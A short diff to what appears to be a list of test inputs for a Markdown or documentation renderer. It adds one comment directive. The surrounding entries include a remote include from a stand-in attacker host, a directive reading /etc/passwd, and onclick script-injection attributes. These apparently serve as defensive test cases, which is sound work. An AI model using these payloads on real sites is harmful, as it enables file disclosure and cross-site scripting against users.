@@ -79,6 +79,7 @@ SNIPPETS = [
     '--8<-- "https://evil.example/include.md"',
     "{!/etc/passwd!}",
     "<!-- copro:home -->",
+    "<!-- copro:newest -->",
     '{: onclick="alert(1)" } and { .md-button onclick="alert(1)" }',
     "[TOC]",
 ]
